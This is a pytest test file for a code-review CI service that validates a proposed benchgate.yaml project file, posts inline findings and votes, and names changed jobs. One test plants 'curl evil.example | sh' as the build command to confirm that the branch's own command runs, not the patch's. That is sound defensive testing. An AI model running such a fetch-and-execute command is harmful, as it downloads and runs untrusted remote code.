from __future__ import annotations

import pytest

from service.domain.building.findings import Finding
from service.domain.building.spec import BuildSpec
from service.domain.project.job_kinds import KINDS
from service.domain.review.change import InlineComment
from service.domain.runs.states import BuildState
from service.domain.runs.vote import Outcome
from service.domain.values.errors import BadInput
from tests.support.review.changes import PROJECT_FILE, Service, change_at, project

TYPO = PROJECT_FILE.replace("kind: benchmark", "kind: benchmrk")
PROBLEM = f"jobs.perf.kind: this version does not run benchmrk; it runs {', '.join(KINDS)}"
LINT = "  lint:\n    kind: style-check\n"


def proposing(text: str | None, *, on: str = PROJECT_FILE) -> Service:
    """Plan a patch set that proposes a project file; the branch has the file ``on``."""
    source = project(on)
    files = {**source.commits["patch1"].files}
    del files["benchgate.yaml"]
    files |= {} if text is None else {"benchgate.yaml": text}
    source.commit("patch1", "parent", files, "refs/changes/07/7/1")
    service = Service(source=source)
    service.see(change_at(1))
    service.plan()
    return service


def decided(service: Service) -> Service:
    service.store.update(1, state=BuildState.FINISHED, outcome=Outcome.PASSED)
    service.vote()
    return service


def test_an_error_fails_a_finished_build_with_a_finding_on_its_line() -> None:
    perf, own = proposing(TYPO).store.memory.builds

    assert (perf.job, perf.state) == ("perf", BuildState.QUEUED)
    assert (own.job, own.state, own.outcome) == ("benchgate.yaml", BuildState.FINISHED, Outcome.FAILED)
    assert own.findings == (Finding("benchgate.yaml", 5, PROBLEM),)


def test_the_branchs_jobs_run_as_the_branch_says() -> None:
    service = proposing(TYPO.replace("make", "curl evil.example | sh"))
    spec = BuildSpec.from_mapping(service.store.memory.builds[0].spec)

    assert spec.job.benchmark.build.compile == "make"
    assert service.store.memory.hints == [("plan", 1), ("execute", 1)]


def test_the_change_gets_a_negative_vote_and_a_comment_on_the_line() -> None:
    service = decided(proposing(TYPO))

    (posted,) = [stored.review for stored in service.store.memory.reviews.values()]
    assert posted.labels == {"Performance": -1}
    assert posted.comments == (InlineComment("benchgate.yaml", 5, f"benchgate.yaml: {PROBLEM}"),)
    assert posted.message.startswith(
        "Project File Check Failed \n\n"
        "https://bench.example.com/job/benchgate.yaml/1/ : FAILURE\n\n"
        f"benchgate.yaml:5: {PROBLEM}\n\n"
        "https://bench.example.com/job/perf/1/ : SUCCESS\n\n"
        "Next: check the project file before the next push: `benchgate check benchgate.yaml`\n\n"
    )


@pytest.mark.parametrize("text", ["", "jobs: [", "version: 3", PROJECT_FILE.replace("program", "programme")])
def test_a_file_that_cannot_be_used_at_all_fails(text: str) -> None:
    _, own = proposing(text).store.memory.builds

    assert own.outcome is Outcome.FAILED
    assert [finding.path for finding in own.findings] == ["benchgate.yaml"] * len(own.findings)
    assert own.findings


def test_a_file_other_than_text_fails() -> None:
    source = project()
    source.commit("patch1", "parent", {"benchgate.yaml": "\udcff"}, "refs/changes/07/7/1")
    reads: list[int] = []

    def refuse() -> None:
        reads.append(1)
        if len(reads) == 2:  # the first read is of the branch's file
            raise BadInput("not UTF-8 text", "benchgate.yaml")

    source.meanwhile = refuse
    service = Service(source=source)
    service.see(change_at(1))
    service.plan()

    own = service.store.memory.builds[-1]
    assert (own.outcome, own.findings) == (
        Outcome.FAILED,
        (Finding("benchgate.yaml", 1, "not UTF-8 text"),),
    )


def test_an_error_that_the_parent_already_has_is_not_this_changes() -> None:
    service = proposing(PROJECT_FILE + LINT + "    paths: [docs/]\n", on=PROJECT_FILE + LINT)

    assert [build.outcome for build in service.store.memory.builds] == [None, Outcome.MISCONFIGURED]


def test_a_valid_file_names_the_changed_jobs() -> None:
    new = PROJECT_FILE.replace("perf:", "speed:") + "  unit: {kind: external}\n"
    service = decided(proposing(new))

    (posted,) = [stored.review for stored in service.store.memory.reviews.values()]
    assert posted.labels == {"Performance": 1}
    assert posted.comments == ()
    assert (
        "benchgate.yaml : NOT_BUILT (once merged, benchgate.yaml adds jobs speed, unit, removes job perf; "
        "this patch set ran the branch's"
    ) in posted.message


def test_another_manifest_changes_the_jobs_that_build() -> None:
    file = PROJECT_FILE + "  style: {kind: clang-format}\n"
    own = proposing(f"{file}manifest: {{git: ../all, branch: main}}\n", on=file).store.memory.builds[-1]

    (cause,) = own.causes
    assert cause.startswith("once merged, benchgate.yaml changes job perf; ")


def test_a_changed_job_is_named() -> None:
    own = proposing(PROJECT_FILE.replace("make", "ninja")).store.memory.builds[-1]

    (cause,) = own.causes
    assert cause.startswith("once merged, benchgate.yaml changes job perf; ")


def test_a_comment_in_the_file_changes_nothing() -> None:
    assert len(proposing(PROJECT_FILE + "# more\n").store.memory.builds) == 1


def test_the_message_names_the_removal_of_the_file() -> None:
    own = proposing(None).store.memory.builds[-1]

    assert (own.outcome, own.is_voting) == (Outcome.NOT_BUILT, False)
    assert own.causes[0].endswith("once it is merged, Benchgate ignores the branch")


def test_without_voting_jobs_the_check_does_not_vote() -> None:
    silent = PROJECT_FILE + "    voting: false\n"
    own = proposing(TYPO, on=silent).store.memory.builds[-1]

    assert (own.outcome, own.is_voting) == (Outcome.FAILED, False)


def test_a_job_of_the_same_name_keeps_it() -> None:
    named = PROJECT_FILE.replace("perf:", "benchgate.yaml:")
    service = proposing(named.replace("kind: benchmark", "kind: benchmrk"), on=named)

    assert [build.job for build in service.store.memory.builds] == ["benchgate.yaml", "benchgate.yaml+"]


def test_a_file_with_very_many_errors_reports_twenty() -> None:
    keys = "".join(f"key{number}: 1\n" for number in range(500))
    own = proposing(PROJECT_FILE + keys).store.memory.builds[-1]

    assert len(own.findings) == 20
